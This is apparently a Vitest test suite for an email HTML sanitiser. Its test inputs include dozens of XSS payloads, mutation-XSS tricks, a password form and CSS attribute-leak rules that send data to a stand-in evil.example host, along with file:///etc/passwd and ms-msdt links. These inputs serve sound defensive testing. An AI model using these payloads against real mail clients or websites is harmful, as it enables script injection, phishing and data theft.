// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { sanitiseMailHtml, type SanitiseOptions } from '#features/ticket/sanitise-mail-html.ts';

const defaults: SanitiseOptions = { allowRemote: false, inlineImages: new Map(), evidence: [] };
const clean = (html: string, options: Partial<SanitiseOptions> = {}) =>
  sanitiseMailHtml(html, { ...defaults, ...options });
const dom = (html: string): Document => new DOMParser().parseFromString(html, 'text/html');

/** Whatever a frame could load, run, submit or navigate to. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const page = dom(html);
  for (const element of page.querySelectorAll(
    'script,iframe,frame,object,embed,applet,link,meta,base,form,input,button,textarea,select,svg,math,video,audio,source,track,template,noscript,portal,area,map,dialog,picture',
  ))
    found.push(element.tagName);
  for (const element of page.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (/^on/iu.test(name)) found.push(`${element.tagName} ${name}`);
      if (
        /^(?:srcset|background|poster|action|formaction|ping|data|srcdoc|xlink:href|manifest|longdesc|usemap|lowsrc|dynsrc|classid|codebase|cite|profile|archive)$/iu.test(
          name,
        )
      )
        found.push(`${element.tagName} ${name}`);
      if (name === 'src' && !value.startsWith('data:image/')) found.push(`src ${value}`);
      if (name === 'href' && !/^(?:https?|mailto|tel):/u.test(value)) found.push(`href ${value}`);
      if (name === 'style' && /url\s*\(|expression|@import|image-set|-moz-binding|behavior/iu.test(value))
        found.push(`style ${value}`);
    }
    if (
      element.tagName === 'STYLE' &&
      /url\s*\(|@import|@font-face|expression|image-set|-moz-binding|behavior|\\/iu.test(element.textContent ?? '')
    )
      found.push(`style ${element.textContent ?? ''}`);
  }
  return found;
}

describe('what a hostile mail cannot do', () => {
  it.each([
    ['a script', '<script>alert(1)</script>hello'],
    ['a script with a remote source', '<script src="https://evil.example/x.js"></script>hello'],
    ['a script in upper case and pieces', '<SCR<script>IPT>alert(1)</SCR</script>IPT>hello'],
    ['an event handler', '<img src=x onerror=alert(1)>hello<p onclick="x()">hello</p><body onload=alert(1)>'],
    [
      'an event handler after a slash',
      '<img/src="x"/onerror=alert(1)>hello<details open ontoggle=alert(1)>hello</details>',
    ],
    [
      'a form',
      '<form action="https://evil.example"><input name=password type=password><textarea>x</textarea><select><option>1</select><button formaction=//evil.example>go</button>hello</form>',
    ],
    [
      'a frame',
      '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><frameset><frame src=//evil.example></frameset>hello',
    ],
    [
      'an object',
      '<object data="https://evil.example/x.swf"></object><embed src="//evil.example"><applet code=x></applet>hello',
    ],
    ['a base address', '<base href="https://evil.example/"><a href="x">hello</a>'],
    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">hello'],
    [
      'a style sheet by link',
      '<link rel="stylesheet" href="https://evil.example/x.css"><link rel=dns-prefetch href="//evil.example"><link rel=preload href=//evil.example as=image>hello',
    ],
    ['a javascript link', '<a href="javascript:alert(1)">hello</a>'],
    [
      'a javascript link with white space',
      '<a href=" java\nscript:alert(1)">hello</a><a href="&#x6A;avascript:alert(1)">hello</a><a href="\u0001javascript:alert(1)">hello</a>',
    ],
    ['a data link', '<a href="data:text/html,<script>alert(1)</script>">hello</a>'],
    [
      'other schemes',
      '<a href="vbscript:x">hello</a><a href="file:///etc/passwd">hello</a><a href="blob:https://x/1">hello</a><a href="about:blank">hello</a><a href="ms-msdt:/id">hello</a><a href="filesystem:x">hello</a>',
    ],
    [
      'SVG',
      '<svg onload=alert(1)><script>alert(1)</script><image href="https://evil.example/x.png"/><use href="//evil.example/x.svg#a"/><animate attributeName=href to=javascript:alert(1) /></svg>hello',
    ],
    [
      'MathML',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>hello',
    ],
    ['mutation through noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>hello'],
    ['mutation through a comment', '<!--><img src=x onerror=alert(1)>-->hello<![CDATA[<img src=x onerror=alert(1)>]]>'],
    ['mutation through style', '<style><!--</style><img src=x onerror=alert(1)>--></style>hello'],
    [
      'mutation through a title',
      '<title><img src=x onerror=alert(1)></title>hello<xmp><img src=x onerror=alert(1)></xmp>',
    ],
    ['a template', '<template><img src=x onerror=alert(1)></template>hello'],
    [
      'media',
      '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"><source src="//evil.example/s"></video><audio src=//evil.example/a></audio>hello',
    ],
    [
      'a responsive image',
      '<picture><source srcset="https://evil.example/a.webp"><img srcset="https://evil.example/b.png 2x" sizes=100vw></picture>hello',
    ],
    [
      'a background attribute',
      '<body background="https://evil.example/a.png"><table background="//evil.example/b.png"><tr><td background=https://evil.example/c.png>hello</td></tr></table>',
    ],
    [
      'an image map',
      '<img src="https://evil.example/a.png" usemap="#m"><map name=m><area href="https://evil.example" shape=default></map>hello',
    ],
    [
      'old image attributes',
      '<img lowsrc=https://evil.example/a dynsrc=https://evil.example/b longdesc=https://evil.example/c>hello<blockquote cite="https://evil.example">hello</blockquote>',
    ],
    ['a ping', '<a href="https://good.example" ping="https://evil.example">hello</a>'],
    ['a data image of SVG', '<img src="data:image/svg+xml;base64,PHN2Zy8+">hello'],
    [
      'CSS that imports',
      '<style>@import url(https://evil.example/x.css); @import "//evil.example/y.css"; p{color:red}</style><p>hello</p>',
    ],
    [
      'CSS that imports with escapes',
      '<style>@\\69mport "https://evil.example/x.css"; p{background:\\75rl(https://evil.example/x)} b{background:u\\72 l(//evil.example)} i{background:\\5c 75rl(//evil.example)}</style><p>hello</p>',
    ],
    [
      'CSS that loads in comments',
      '<style>p{background:u/**/rl(https://evil.example/1);background:url/**/(https://evil.example/2)}</style><p>hello</p>',
    ],
    [
      'CSS that loads from an attribute',
      '<p style="background:url(https://evil.example/x.png)">hello</p><p style="list-style-image:image-set(\'https://evil.example/x.png\' 1x)">hello</p><p style="background-image:-webkit-image-set(url(//evil.example) 1x)">hello</p>',
    ],
    [
      'CSS with a font',
      '<style>@font-face{font-family:x;src:url(https://evil.example/x.woff2)}p{font-family:x}</style><p>hello</p>',
    ],
    [
      'CSS that leaks an attribute',
      '<style>a[href^="https://a"]{background:url(https://evil.example/a)}</style><a href="https://a.example">hello</a>',
    ],
    [
      'CSS through a variable',
      '<style>:root{--x:url(https://evil.example/x)}p{background:var(--x)}</style><p>hello</p>',
    ],
    [
      'CSS of old browsers',
      '<p style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(//evil.example/x.xml#a)">hello</p>',
    ],
    ['CSS in a media rule', '<style>@media all{p{background:url(https://evil.example)}}</style><p>hello</p>'],
    ['CSS with an open string', '<style>p{content:"\n;background:url(https://evil.example/x)}</style><p>hello</p>'],
    [
      'CSS with an unclosed bracket',
      '<style>p{color:rgb(1;background:url(https://evil.example/x)} b{background:url(//evil.example)}</style><p>hello</p>',
    ],
    ['a style that ends early', '<style>p{}</sty\\6ce><img src=x onerror=alert(1)></style>hello'],
  ])('%s', (_, html) => {
    const { html: result } = clean(html);
    expect(dangers(result)).toEqual([]);
    expect(dom(result).body.textContent).not.toContain('alert(1)</');
  });

  it('keeps the words around what it removes', () => {
    expect(
      dom(clean('<p>before</p><script>x</script><form><p>inside</p></form><p>after</p>').html).body.textContent,
    ).toBe('beforeinsideafter');
  });

  it('is safe to read twice', () => {
    const once = clean('<style>p{color:red}</style><p style="color:blue">x <a href="https://a.example">a</a></p>').html;
    expect(dangers(clean(once).html)).toEqual([]);
  });

  it('survives what is not HTML at all', () => {
    for (const odd of ['', '\0\0', '<', '<<<<>>>>', '<a'.repeat(2000), '</div>'.repeat(500), '\u{d800}'])
      expect(() => clean(odd)).not.toThrow();
  });

  it('cannot be nested out of', () => {
    const deep = `${'<div>'.repeat(600)}<img src=x onerror=alert(1)><script>1</script>${'</div>'.repeat(600)}`;
    expect(dangers(clean(deep).html)).toEqual([]);
  });
});

describe('remote content', () => {
  const mail =
    '<img src="https://a.example/1.png" alt="One"><img src="http://a.example/2.png"><img src="//a.example/3.png" width=300><img src="https://a.example/open.gif" width="1" height="1">';

  it('is blocked and counted, trackers apart', () => {
    const { html, blocked } = clean(mail);
    expect(blocked).toEqual({ images: 3, trackers: 1, other: 0 });
    expect(dangers(html)).toEqual([]);
    expect(html).toContain('One');
  });

  it('loads over https when allowed, trackers never', () => {
    const { html, blocked } = clean(mail, { allowRemote: true });
    const sources = [...dom(html).querySelectorAll('img')].map((image) => image.getAttribute('src'));
    expect(sources).toEqual(['https://a.example/1.png', 'https://a.example/2.png', 'https://a.example/3.png']);
    expect(blocked).toEqual({ images: 0, trackers: 1, other: 0 });
  });

  it.each([
    ['one pixel', '<img src="https://a.example/x.png" width=1 height=1>'],
    ['one pixel by style', '<img src="https://a.example/x.png" style="width:1px;height:1px">'],
    ['no height', '<img src="https://a.example/x.png" height="0">'],
    ['not displayed', '<img src="https://a.example/x.png" style="display:none">'],
    ['transparent', '<img src="https://a.example/x.png" style="opacity:0">'],
    ['the address of a tracker', '<img src="https://track.mailer.example/x.png">'],
    ['the path of a tracker', '<img src="https://a.example/wf/open?upn=1">'],
    ['a known host', '<img src="https://u1.ct.sendgrid.net/x.png">'],
  ])('sees a tracker by %s', (_, html) => {
    expect(clean(html).blocked).toEqual({ images: 0, trackers: 1, other: 0 });
  });

  it.each([
    ['a picture', '<img src="https://a.example/photo.jpg" width=600 height=200>'],
    ['a logo without a size', '<img src="https://cdn.a.example/logo.png">'],
    ['full opacity', '<img src="https://a.example/x.png" style="opacity:0.5;width:100%">'],
  ])('does not take %s for a tracker', (_, html) => {
    expect(clean(html).blocked).toEqual({ images: 1, trackers: 0, other: 0 });
  });

  it('counts what the removed parts and the styles wanted', () => {
    const { blocked } = clean(
      '<link rel=stylesheet href="https://a.example/x.css"><video poster="https://a.example/p.png"></video><p style="background:url(https://a.example/b.png)">x</p><style>@import "https://a.example/i.css";</style><table background="https://a.example/t.png"><tr><td>x</table>',
    );
    expect(blocked).toEqual({ images: 2, trackers: 0, other: 3 });
  });

  it('does not load CSS images even when images are allowed', () => {
    expect(
      dangers(clean('<p style="background:url(https://a.example/b.png)">x</p>', { allowRemote: true }).html),
    ).toEqual([]);
  });
});

describe('images inside of the mail', () => {
  const png = 'data:image/png;base64,iVBORw0KGgo=';

  it('come from the attachments by their content id', () => {
    const { html, inlineIds } = clean('<img src="cid:Logo@Mail" alt=logo><img src="cid:other">', {
      inlineImages: new Map([['logo@mail', png]]),
    });
    expect([...dom(html).querySelectorAll('img')].map((image) => image.getAttribute('src'))).toEqual([png]);
    expect(inlineIds).toEqual(['logo@mail', 'other']);
  });

  it('may be written into it', () => {
    expect(clean(`<img src="${png}">`).html).toContain(png);
  });

  it('are refused where the data are no image', () => {
    expect(
      dangers(clean('<img src="cid:x">', { inlineImages: new Map([['x', 'data:text/html;base64,AAAA']]) }).html),
    ).toEqual([]);
  });
});

describe('links', () => {
  const link = (html: string): Element | null => dom(clean(html).html).querySelector('a');

  it('open outside, without telling where from, and show where they lead', () => {
    const a = link('<a href="https://good.example/path?q=1" target=_top rel=opener title="trust me">here</a>');
    expect(a?.getAttribute('target')).toBe('_blank');
    expect(a?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(a?.getAttribute('title')).toBe('Leads to https://good.example/path?q=1');
  });

  it('warn where the words name another host', () => {
    const page = dom(clean('<a href="https://evil.example/login">https://tai.example/login</a>').html);
    expect(page.querySelector('a')?.getAttribute('title')).toContain('Careful: it says tai.example');
    expect(page.querySelector('.fl-warning')?.textContent).toContain('evil.example');
  });

  it.each([
    '<a href="https://www.tai.example/a">tai.example</a>',
    '<a href="https://x.example">Read more</a>',
    '<a href="mailto:a@b.example">a@b.example</a>',
    '<a href="https://x.example">version 1.2 is out</a>',
  ])('do not warn for %s', (html) => {
    expect(dom(clean(html).html).querySelector('.fl-warning')).toBeNull();
  });

  it('show the true name of a host in other letters', () => {
    expect(link('<a href="https://аррle.com">apple</a>')?.getAttribute('title')).toContain('xn--');
  });

  it('let mail and telephone through', () => {
    expect(link('<a href="mailto:a@b.example">x</a>')?.getAttribute('href')).toBe('mailto:a@b.example');
    expect(link('<a href="tel:+4912345">x</a>')?.getAttribute('href')).toBe('tel:+4912345');
  });

  it('cannot hide the warning by the style of the mail', () => {
    const { html } = clean(
      '<style>.fl-warning{display:none!important}</style><a href="https://evil.example">https://tai.example</a>',
    );
    expect(html).not.toMatch(/\.fl-warning\s*\{/u);
    expect(html).toContain('display:inline !important');
  });
});

describe('what stays', () => {
  it('is the look of an ordinary mail', () => {
    const { html } = clean(
      '<style>.a{color:#f00;font-weight:bold}</style><table width=600 cellpadding=4 bgcolor="#eee"><tr><td align=center valign=top style="padding:4px;border:1px solid #ccc"><b class=a>Hi</b><br><font color=red>x</font></td></tr></table><ul><li>1</li></ul><pre>code</pre>',
    );
    for (const part of [
      '.a{color:#f00;font-weight:bold}',
      'bgcolor="#eee"',
      'align="center"',
      'padding:4px',
      '<font color="red">',
      '<pre>code</pre>',
      '<li>1</li>',
    ])
      expect(html).toContain(part);
  });

  it('keeps the style that Word wraps in a comment, and the medium a style is for', () => {
    const { html } = clean(
      '<head><style><!--\np.MsoNormal, li.MsoNormal\n\t{margin:0cm;font-size:11.0pt;}\n--></style><style media="print">p{display:none}</style><style media="} p{display:none">p{display:none}</style></head><body><p class=MsoNormal>x</p></body>',
    );
    const style = dom(html).querySelector('style')?.textContent;
    expect(style).toBe('p.MsoNormal, li.MsoNormal{margin:0cm;font-size:11.0pt}\n@media print{p{display:none}}');
  });

  it('keeps media rules without what they load', () => {
    expect(
      clean('<style>@media (max-width:600px){.a{width:100%;background:url(x)}}</style><p class=a>x</p>').html,
    ).toContain('@media (max-width:600px){.a{width:100%}}');
  });

  it('says whether the mail paints itself', () => {
    expect(clean('<p>plain</p>').paintsItself).toBe(false);
    expect(clean('<p style="margin:0">plain</p>').paintsItself).toBe(false);
    expect(clean('<p style="color:#333">x</p>').paintsItself).toBe(true);
    expect(clean('<table bgcolor="#fff"><tr><td>x</table>').paintsItself).toBe(true);
    expect(clean('<style>p{background-color:#fff}</style><p>x</p>').paintsItself).toBe(true);
  });
});

describe('folding', () => {
  it.each([
    ['Gmail', '<div>new</div><div class="gmail_quote"><div>On … wrote:</div><blockquote>old</blockquote></div>'],
    ['Apple Mail', '<div>new</div><blockquote type="cite">old</blockquote>'],
    ['Outlook', '<div>new</div><div id="divRplyFwdMsg">From: x</div><div>old</div>'],
    ['Thunderbird', '<p>new</p><div class="moz-cite-prefix">On … wrote:</div><blockquote>old</blockquote>'],
  ])('folds the quote of %s', (_, html) => {
    const page = dom(clean(html).html);
    expect(page.querySelector('details.fl-fold')?.textContent).toContain('old');
    expect(page.querySelector('details.fl-fold')?.textContent).not.toContain('new');
    expect(page.querySelector('summary')?.textContent).toBe('Quoted text');
  });

  it('folds a signature', () => {
    expect(
      dom(clean('<div>new</div><div class="gmail_signature">Ines</div>').html).querySelector('summary')?.textContent,
    ).toBe('Signature');
  });

  it('leaves a mail that is nothing but a quote', () => {
    expect(dom(clean('<blockquote type="cite">all of it</blockquote>').html).querySelector('details')).toBeNull();
  });
});

describe('evidence', () => {
  it('is marked in the text that is shown, not in the quote', () => {
    const page = dom(
      clean('<p>we get a <b>401 Unauthorized</b> here</p><blockquote type=cite>401 Unauthorized</blockquote>', {
        evidence: ['401 Unauthorized'],
      }).html,
    );
    expect([...page.querySelectorAll('mark')].map((mark) => mark.textContent)).toEqual(['401 Unauthorized']);
    expect(page.querySelector('details mark')).toBeNull();
  });

  it('is marked across elements and line breaks', () => {
    const page = dom(clean('<p>You charged\n   us <b>$20K</b> today</p>', { evidence: ['You charged us $20K'] }).html);
    expect([...page.querySelectorAll('mark')].map((mark) => mark.textContent?.replaceAll(/\s+/gu, ' '))).toEqual([
      'You charged us ',
      '$20K',
    ]);
  });

  it('cannot bring markup in', () => {
    expect(
      dangers(clean('<p>&lt;img src=x onerror=alert(1)&gt;</p>', { evidence: ['<img src=x onerror=alert(1)>'] }).html),
    ).toEqual([]);
  });
});
